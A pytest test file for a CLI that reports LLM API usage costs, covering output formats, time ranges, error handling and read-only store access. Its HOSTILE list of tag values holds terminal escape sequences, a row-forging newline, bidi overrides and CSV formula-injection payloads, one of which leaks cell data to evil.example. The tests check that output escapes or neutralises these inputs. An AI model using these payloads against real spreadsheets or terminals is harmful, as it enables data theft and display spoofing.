"""`genai-cost report` through main([...]) over a store written by the real exporter, plus time ranges."""

from __future__ import annotations

import csv
import io
import json
import os
import pwd
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from genai_cost import config
from genai_cost.cli import main
from genai_cost.store.db import UsageStore
from genai_cost.store.dialect import SQLITE
from genai_cost.store.migrations import MIGRATIONS, MIGRATIONS_TABLE, m001_usage
from genai_cost.store.timerange import TimeRangeError, resolve
from genai_cost.usage import Cost, Usage
from store_data import CALLS, CLAUDE_MODEL, GROQ_MODEL, Call, record, utc

NOVEMBER = ["--from", "2026-11-01", "--to", "2026-11-30"]
SRC = str(Path(__file__).resolve().parents[1] / "src")


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Nothing may read or write the real user's store.
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv(config.DB_PATH, raising=False)


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "usage.db"
    record(str(path), CALLS)
    monkeypatch.setenv(config.DB_PATH, str(path))
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["report", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def section(out: str, title: str) -> list[list[str]]:
    """The rows of one table section, each split into its cells."""
    lines = out.splitlines()
    start = lines.index(title)
    rows = []
    for line in lines[start + 3 :]:
        if not line.strip():
            break
        rows.append(re.split(r"\s{2,}", line.strip()))
    return rows


# --- table ---------------------------------------------------------------------------------------------


def test_wide_table_summary_feature_model(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--wide", *NOVEMBER)
    assert (code, err) == (0, "")
    assert out.splitlines()[0] == f"genai-cost report: {db}, 2026-11-01 00:00 to 2026-12-01 00:00 UTC"
    header = out.splitlines()[3].split()
    assert header == [
        "requests", "errors", "rate-limited", "input", "tok", "output", "tok", "cached", "tok", "cost",
        "(USD)", "unpriced", "avg/call", "sessions", "avg/session", "p50", "p95", "p99",
    ]  # fmt: skip
    assert section(out, "Summary") == [
        ["all calls", "7", "1 (14.3%)", "1 (14.3%)", "7,500", "1,450", "2,000", "$0.028000", "1",
         "$0.007000", "2", "$0.002000", "1.50s", "4.00s", "4.00s"],
    ]  # fmt: skip
    assert section(out, "By feature") == [
        ["resume_analysis", "2", "0", "0", "3,000", "1,000", "2,000", "$0.024000", "0", "$0.024000", "0", "-",
         "1.00s", "4.00s", "4.00s"],
        ["interview", "4", "1 (25.0%)", "1 (25.0%)", "4,000", "400", "-", "$0.004000", "0", "$0.001333", "2",
         "$0.002000", "500ms", "2.50s", "2.50s"],
        ["(none)", "1", "0", "0", "500", "50", "-", "unpriced", "1", "-", "0", "-", "3.00s", "3.00s",
         "3.00s"],
    ]  # fmt: skip
    assert [row[0] for row in section(out, "By model")] == [CLAUDE_MODEL, GROQ_MODEL, "ft:gpt-4o-mini:acme"]
    assert "1 call had tokens but no known price; its cost is not included" in out
    assert "- = not reported (or nothing to average); (none) = calls without that tag" in out
    assert "--wide" not in out.split("By model")[1]  # every column is shown already


def test_default_table_is_compact_and_fits_the_terminal(
    db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    compact = ["requests", "errors", "input tok", "output tok", "cached tok", "cost (USD)", "avg/call", "p95"]
    code, out, _ = run(capsys, *NOVEMBER)  # not a terminal: the compact set, whatever its width
    assert code == 0
    assert re.split(r"\s{2,}", out.splitlines()[3].strip()) == compact
    assert section(out, "Summary") == [
        ["all calls", "7", "1 (14.3%)", "7,500", "1,450", "2,000", "$0.028000", "$0.007000", "4.00s"]
    ]
    assert out.rstrip().endswith(
        "More columns (rate-limited, unpriced, sessions, avg/session, p50, p99): --wide."
    )
    for columns in ("80", "60", "20"):
        monkeypatch.setenv("COLUMNS", columns)
        code, out, _ = run(capsys, *NOVEMBER)
        table = out.split("\n\n")[1:4]  # the three tables
        widest = max(len(line) for part in table for line in part.splitlines())
        assert widest <= int(columns) or columns == "20", (columns, widest)  # requests and cost always stay
        assert "requests" in out and "cost (USD)" in out
    assert (
        out.splitlines()[-1].startswith("More columns (errors, rate-limited, ")
        and "p95" in out.splitlines()[-1]
    )


def test_a_closed_pipe_is_not_an_error(db: Path) -> None:
    # `genai-cost report | head -1`: the reader goes away before the report is written.
    command = [sys.executable, "-c", _CLI, SRC, "report", "-d", str(db)]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert (proc.wait(timeout=60), err) == (0, "")


def test_by_session_and_top(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--by", "session", "--wide", *NOVEMBER)
    assert code == 0
    rows = {r[0]: r for r in section(out, "By session")}
    assert rows["s1"][7] == "$0.003000" and rows["s1"][11] == "$0.003000"  # cost per interview session
    assert rows["s2"][1:3] == ["2", "1 (50.0%)"]
    code, out, _ = run(capsys, "--by", "feature", "--top", "2")  # all time: the October transcription too
    assert [r[0] for r in section(out, "By feature (top 2)")] == ["resume_analysis", "transcription"]


def test_empty_range_says_so(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--from", "2025-01-01", "--to", "2025-01-31")
    assert (code, err) == (0, "")
    assert "no GenAI calls in this range (calls recorded: 2026-10-15 12:00 to 2026-11-21 12:00 UTC)" in out


# --- json and csv -------------------------------------------------------------------------------------

INTERVIEW = {
    "by": "feature", "key": "interview", "requests": 4, "errors": 1, "error_rate": 0.25, "rate_limited": 1,
    "rate_limited_rate": 0.25, "input_tokens": 4000, "output_tokens": 400, "cache_read_tokens": None,
    "cache_creation_tokens": None, "cache_creation_5m_tokens": None, "cache_creation_1h_tokens": None,
    "reasoning_tokens": None, "tool_use_prompt_tokens": None, "input_audio_tokens": None,
    "web_search_calls": None, "web_fetch_calls": None, "code_execution_calls": None, "file_search_calls": None,
    "images": None, "audio_seconds": None, "input_characters": None,
    "cost_usd": 0.004, "priced": 3, "unpriced": 0, "partial": 0,
    "usage_missing": 0, "avg_cost_per_call_usd": 0.001333333333, "sessions": 2,
    "avg_cost_per_session_usd": 0.002,
    "latency_p50_s": 0.5, "latency_p95_s": 2.5, "latency_p99_s": 2.5, "latency_approximate": False,
}  # fmt: skip


def test_json_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--by", "feature", "--format", "json", *NOVEMBER)
    assert code == 0
    rows = json.loads(out)
    assert [r["key"] for r in rows] == ["resume_analysis", "interview", None]
    assert rows[1] == INTERVIEW
    assert (rows[2]["cost_usd"], rows[2]["unpriced"]) == (None, 1)  # unpriced, not zero
    code, out, _ = run(capsys, "--format", "json")  # default: summary, then by feature and by model
    rows = json.loads(out)
    assert [r["by"] for r in rows] == ["total"] + ["feature"] * 4 + ["model"] * 4
    assert (rows[0]["requests"], rows[0]["cost_usd"], rows[0]["input_tokens"]) == (8, 0.038, 17500)


def test_csv_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--by", "feature", "--format", "csv", *NOVEMBER)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(INTERVIEW)
    interview = rows[1]
    assert interview == {k: "" if v is None else str(v) for k, v in INTERVIEW.items()}
    assert interview["latency_approximate"] == "False"
    code, out, _ = run(capsys, "--by", "user", "--format", "csv", "--from", "2030-01-01")
    assert (code, out.splitlines()) == (0, [",".join(f'"{key}"' for key in INTERVIEW)])  # header only


# Tag values come from the app (and through it from its users): none may act on the reader's terminal
# or spreadsheet.
HOSTILE = [
    "\x1b[2J\x1b[Hscreen cleared",
    "forged\nall calls        999  $0.000001",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "bidi \u202eevil\u202c",
    "plain_feature",
]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.db"
    calls = [
        Call(utc(f"2026-11-20T10:00:{i:02d}"), 0.5, "openai", "gpt-4o-mini", feature=name, usage=Usage(10, 1),
             cost=Cost(0.001 * (i + 1)))
        for i, name in enumerate(HOSTILE)
    ]  # fmt: skip
    record(str(path), calls)
    return path


def test_table_shows_control_characters_escaped(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature")
    assert code == 0
    for char in ("\x1b", "\r", "\t", "\u202e", "\u202c"):
        assert char not in out, repr(char)
    rows = section(out, "By feature")
    assert len(rows) == len(HOSTILE)  # the newline forged no row
    keys = {row[0] for row in rows}
    assert "\\x1b[2J\\x1b[Hscreen cleared" in keys
    assert "forged\\nall calls" in keys  # the rest of that cell follows after two spaces
    assert "bidi \\u202eevil\\u202c" in keys and "plain_feature" in keys


def test_csv_cells_never_start_a_formula(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "csv")
    assert code == 0
    keys = {row["key"] for row in csv.DictReader(io.StringIO(out))}
    assert keys == {
        "\x1b[2J\x1b[Hscreen cleared",
        "forged\nall calls        999  $0.000001",
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "'+1+1",
        "'-1+1",
        "'@SUM(A1:A9)",
        "'\tleading tab",
        "'\rleading return",
        "bidi \u202eevil\u202c",
        "plain_feature",
    }
    code, out, _ = run(capsys, "-d", str(hostile_db), "--by", "feature", "--format", "json")
    assert {row["key"] for row in json.loads(out)} == set(HOSTILE)  # JSON stays exact


def test_day_and_operation_breakdowns(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "--by", "day", "--format", "json")
    days = [(r["key"], r["requests"], r["cost_usd"]) for r in json.loads(out)]
    assert days == [("2026-10-15", 1, 0.01), ("2026-11-20", 4, 0.004), ("2026-11-21", 3, 0.024)]
    _, out, _ = run(capsys, "--by", "operation", "--format", "json", "--from", "2026-11-21")
    ops = {r["key"]: (r["requests"], r["input_tokens"]) for r in json.loads(out)}
    assert ops == {"chat": (2, 3500), "count_tokens": (1, None)}  # a pre-estimate, not billed tokens


# --- time ranges relative to now ----------------------------------------------------------------------


def test_ranges_near_the_ends_of_the_calendar(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Years below 1000 compare as text only when written with four digits.
    for argv in (
        ["--from", "0999-01-01"],
        ["--from", "0001-01-01", "--to", "9999-12-30"],
        ["--days", "700000"],
    ):
        code, out, err = run(capsys, "--format", "json", *argv)
        assert (code, err) == (0, ""), argv
        assert json.loads(out)[0]["requests"] == 8, argv


def test_per_user_over_7_30_90_days(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    now = datetime.now(UTC).replace(microsecond=0)
    ages = [
        timedelta(seconds=1),
        timedelta(days=3),
        timedelta(days=20),
        timedelta(days=60),
        timedelta(days=100),
    ]
    calls = [
        Call(now - age, 1.0, "openai", "gpt-4o-mini", user="u1", usage=Usage(10, 1), cost=Cost(float(2**i)))
        for i, age in enumerate(ages)
    ]
    path = tmp_path / "relative.db"
    record(str(path), calls)

    def cost(*argv: str) -> float | None:
        code, out, err = run(capsys, "-d", str(path), "--by", "user", "--format", "json", *argv)
        assert (code, err) == (0, "")
        rows = json.loads(out)
        return rows[0]["cost_usd"] if rows else None

    assert cost("--since", "90m") == 1
    assert cost("--since", "24h") == 1
    assert cost("--since", "today") == 1
    assert cost("--since", "7d") == 3
    assert cost("--since", "2w") == 3
    assert cost("--days", "30") == 7
    assert cost("--since", "90d") == 15
    assert cost() == 31


# --- bad input ----------------------------------------------------------------------------------------


def _one_line_error(code: int, out: str, err: str) -> str:
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("genai-cost: error: "), err
    return err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--since", "7x"], "--since '7x': expected a duration like 90m, 24h, 7d or 2w"),
        (["--since=-3d"], "--since '-3d': expected"),
        (["--since"], "argument --since: expected one argument (see genai-cost report --help)"),
        (["--from", "last tuesday"], "--from 'last tuesday': expected a date YYYY-MM-DD"),
        (["--since", "7d", "--days", "3"], "use either --since or --days, not both"),
        (["--days", "7", "--from", "2026-11-01"], "use either --since/--days or --from, not both"),
        (["--days", "0"], "--days 0: expected a whole number of days, 1 or more"),
        (["--from", "2026-11-22", "--to", "2026-11-01"], "the range is empty"),
        (
            ["--to", "9999-12-31"],
            "--to '9999-12-31': out of range (use a date from 0001-01-01 to 9999-12-30)",
        ),
        (["--from", "0001-01-01T00:00+05:00"], "--from '0001-01-01T00:00+05:00': out of range"),
        (["--days", "999999999"], "--days 999999999: too far back (the earliest date is 0001-01-01)"),
        (
            ["--since", "99999999999d"],
            "--since '99999999999d': too far back (the earliest date is 0001-01-01)",
        ),
        (["--since", "9" * 5000 + "m"], "too far back"),
    ],
)
def test_bad_time_range(db: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str) -> None:
    assert message in _one_line_error(*run(capsys, *argv))


def test_missing_store(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch) -> None:
    err = _one_line_error(*run(capsys))  # default location under XDG_DATA_HOME
    expected = tmp_path / "xdg" / "genai-cost" / "usage.db"
    assert f"no usage recorded yet at {expected}; run your app with OTEL_TRACES_EXPORTER=genai_cost" in err
    assert not expected.exists()
    monkeypatch.setenv(config.DB_PATH, str(tmp_path / "from-env.db"))
    assert f"at {tmp_path / 'from-env.db'};" in _one_line_error(*run(capsys))


def test_database_flag_overrides_env(db: Path, tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.setenv(config.DB_PATH, str(tmp_path / "elsewhere.db"))
    code, out, _ = run(capsys, "-d", str(db), "--format", "json")
    assert code == 0 and json.loads(out)[0]["requests"] == 8
    code, out, _ = run(capsys, "--database", str(db), "--format", "json")
    assert code == 0 and json.loads(out)[0]["requests"] == 8


def test_corrupt_store(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    junk = tmp_path / "usage.db"
    junk.write_text("timestamp,operation,prompt_tokens\n" * 100)
    err = _one_line_error(*run(capsys, "-d", str(junk)))
    assert f"{junk} is not a genai-cost store (not a SQLite database, or damaged)" in err


def test_store_from_a_newer_version(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute(f"INSERT INTO {MIGRATIONS_TABLE} VALUES ('m002_from_the_future', 'x')")
    conn.close()
    err = _one_line_error(*run(capsys))
    known = len(MIGRATIONS)
    assert (
        f"store schema version {known + 1} is newer than this genai-cost supports ({known}); upgrade" in err
    )


def test_argparse_errors_exit_2(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "--by", "color"]) == 2
    assert "invalid choice: 'color'" in _one_line_error(2, *capsys.readouterr())
    assert main(["report", "--top", "0"]) == 2
    assert "expected 1 or more" in _one_line_error(2, *capsys.readouterr())
    assert main(["report", "--format", "xml"]) == 2
    assert "invalid choice: 'xml'" in _one_line_error(2, *capsys.readouterr())
    assert main([]) == 2  # no command: help on stderr
    assert "report" in capsys.readouterr().err
    assert main(["--help"]) == 0
    assert "report" in capsys.readouterr().out


# --- timerange unit ------------------------------------------------------------------------------------

NOW = datetime(2026, 11, 22, 15, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("since", "start"),
    [
        ("90m", "2026-11-22T14:00:00"),
        ("24h", "2026-11-21T15:30:00"),
        ("7d", "2026-11-15T15:30:00"),
        ("2w", "2026-11-08T15:30:00"),
        (" 7D ", "2026-11-15T15:30:00"),
        ("today", "2026-11-22T00:00:00"),
        ("month", "2026-11-01T00:00:00"),
    ],
)
def test_since(since: str, start: str) -> None:
    assert resolve(since=since, now=NOW).start == utc(start)


def test_days_from_to() -> None:
    assert resolve(days=1, now=NOW).start == utc("2026-11-22T00:00:00")
    assert resolve(days=30, now=NOW).start == utc("2026-10-24T00:00:00")
    window = resolve(from_="2026-11-01", to="2026-11-22", now=NOW)
    assert (window.start, window.end) == (utc("2026-11-01T00:00:00"), utc("2026-11-23T00:00:00"))
    exact = resolve(from_="2026-11-01T08:00+02:00", to="2026-11-02T10:15Z")
    assert (exact.start, exact.end) == (utc("2026-11-01T06:00:00"), utc("2026-11-02T10:15:00"))
    assert resolve().describe() == "all time"
    with pytest.raises(TimeRangeError):
        resolve(since="", now=NOW)


def test_store_is_not_created_by_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "new" / "usage.db"
    assert main(["report", "-d", str(path)]) == 2
    capsys.readouterr()
    assert not path.parent.exists()
    UsageStore.open(path).close()  # an empty store reports zero calls
    code, out, _ = run(capsys, "-d", str(path))
    assert code == 0 and "no GenAI calls in this range (calls recorded: none)" in out


# --- a reader who may not write -------------------------------------------------------------------------

_CLI = "import sys; sys.path.insert(0, sys.argv[1]); from genai_cost.cli import main; sys.exit(main(sys.argv[2:]))"


def _reader_command() -> list[str]:
    """How to run Python as a user who cannot write the store. Root writes through any file mode, so
    as root the CLI runs as `nobody` (it needs only the standard library and src/)."""
    if os.geteuid() != 0:
        return [sys.executable]
    setpriv = shutil.which("setpriv")
    assert setpriv, "running as root: setpriv (util-linux) is needed to read the store as another user"
    nobody = pwd.getpwnam("nobody")
    drop = [setpriv, f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}", "--clear-groups"]
    # The test's interpreter may live in root's home; any Python 3.11+ that `nobody` can run will do.
    for python in (sys.executable, "/usr/bin/python3", shutil.which("python3")):
        if python and subprocess.run(
            [*drop, python, "-c", "import sys; sys.exit(sys.version_info < (3, 11))"],
            capture_output=True, env={"PATH": "/usr/bin:/bin"}, check=False,
        ).returncode == 0:  # fmt: skip
            return [*drop, python]
    raise AssertionError(
        "no Python 3.11+ that the user nobody may run (tried the test's and /usr/bin/python3)"
    )


def _as_a_reader(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*_reader_command(), "-c", _CLI, SRC, *argv],
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"},
        check=False,
    )


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    # Not tmp_path: pytest keeps its temporary directories private to their owner.
    base = Path(tempfile.mkdtemp(prefix="genai-cost-readonly-"))
    base.chmod(0o755)
    yield base
    for path in base.rglob("*"):
        if path.is_dir():
            path.chmod(0o755)
    shutil.rmtree(base)


def test_report_needs_read_access_only(shared_dir: Path) -> None:
    # The app has exited (its WAL is checkpointed and gone); the reader may read the file but write
    # neither it nor its directory, so SQLite cannot create the -shm file WAL mode uses.
    path = shared_dir / "store" / "usage.db"
    record(str(path), CALLS)
    assert sorted(os.listdir(path.parent)) == ["usage.db"]
    before = path.read_bytes()
    path.chmod(0o444)
    path.parent.chmod(0o555)
    done = _as_a_reader("report", "-d", str(path), "--format", "json", *NOVEMBER)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)[0]["requests"] == 7
    done = _as_a_reader("report", "-d", str(path), "--by", "user")
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    assert "By user" in done.stdout
    assert sorted(os.listdir(path.parent)) == ["usage.db"] and path.read_bytes() == before


def test_report_on_an_old_store_it_may_not_upgrade(shared_dir: Path) -> None:
    path = shared_dir / "store" / "usage.db"
    path.parent.mkdir()
    old = sqlite3.connect(path, isolation_level=None)
    m001_usage(old, SQLITE)
    old.execute(f"CREATE TABLE {MIGRATIONS_TABLE} (name TEXT PRIMARY KEY, applied_at TEXT)")
    old.execute(f"INSERT INTO {MIGRATIONS_TABLE} VALUES ('m001_usage', 'x')")
    old.close()
    path.chmod(0o444)
    path.parent.chmod(0o555)
    done = _as_a_reader("report", "-d", str(path))
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == (
        f"genai-cost: error: {path} was written by an older genai-cost and needs a one-time upgrade; "
        "run genai-cost report once as a user who can write it\n"
    )
    path.parent.chmod(0o755)
    path.chmod(0o644)
    assert main(["report", "-d", str(path), "--format", "json"]) == 0  # its owner upgrades it


def test_a_table_by_session_stops_at_the_most_expensive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """At volume a table of every session takes seconds and no one reads it: it shows the 50 most
    expensive and says how to get the rest; --top and CSV/JSON still give what they ask for."""
    path = tmp_path / "many.db"
    calls = [
        Call(utc("2026-11-20T10:00:00") + timedelta(seconds=i), 0.5, "openai", "gpt-4o-mini", session=f"s{i:03d}",
             usage=Usage(10, 1), cost=Cost(0.001 * (i + 1)))
        for i in range(60)
    ]  # fmt: skip
    record(str(path), calls)
    code, out, _ = run(capsys, "-d", str(path), "--by", "session")
    assert code == 0
    shown = [r[0] for r in section(out, "By session (top 50)")]
    assert shown[:2] == ["s059", "s058"] and len(shown) == 50
    assert "By session: the 50 most expensive shown; --top N for more" in out
    code, out, _ = run(capsys, "-d", str(path), "--by", "session", "--top", "55")
    assert len(section(out, "By session (top 55)")) == 55 and "most expensive shown" not in out
    code, out, _ = run(capsys, "-d", str(path), "--by", "session", "--format", "json")
    assert len([r for r in json.loads(out) if r.get("session") or r.get("key")]) >= 60
